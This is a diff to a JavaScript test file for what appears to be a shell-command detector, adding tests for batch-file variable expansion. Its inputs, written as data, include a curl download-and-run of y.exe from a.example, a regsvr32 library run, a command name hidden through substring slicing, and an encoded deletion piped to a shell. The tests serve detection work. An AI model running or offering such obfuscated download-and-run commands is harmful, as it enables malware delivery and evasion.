@@ -47,6 +47,25 @@ describe('readShell', () => {
     expect(actsOf(webClient, 'powershell')).toContain(wanted)
   })
 
+  it('puts the variables of a batch file in before it splits words, pieces of them too', () => {
+    const fetched = 'curl https://a.example/x -o y.exe\r\n'
+    expect(actsOf(`${fetched}set run=y.exe -k --tls\r\nstart /B %run%`, 'cmd')).toContain(
+      'download-and-run https://a.example/x',
+    )
+    expect(actsOf('set last=regsvr32.exe -s x.dll\r\n%last%', 'cmd')).toEqual(['run-library -s x.dll'])
+    const letters = 'set a=abcdefghijklmnopqrstuvwxyz\r\n'
+    expect(actsOf(`${letters}%a:~2,1%%A:~-6,1%%a:~17,1%%a:~11,-14% https://a.example/x`, 'cmd')).toEqual([
+      'download https://a.example/x',
+    ])
+  })
+
+  it('does not let the variables of a batch file multiply without an end', () => {
+    const growing = `set a=${'x'.repeat(4000)}\r\n${`echo ${'%a%'.repeat(80)}\r\n`.repeat(900)}curl https://a.example/x`
+    const start = performance.now()
+    expect(actsOf(growing, 'cmd')).toEqual(['download https://a.example/x'])
+    expect(performance.now() - start).toBeLessThan(1000)
+  })
+
   it('decodes what is encoded, and shows it', () => {
     expect(actsOf(`powershell -EncodedCommand ${encoded('rm x')}`)).toEqual(['encoded-command rm x', 'delete x'])
     expect(actsOf('echo cm0geA== | base64 --decode | sh')).toEqual([
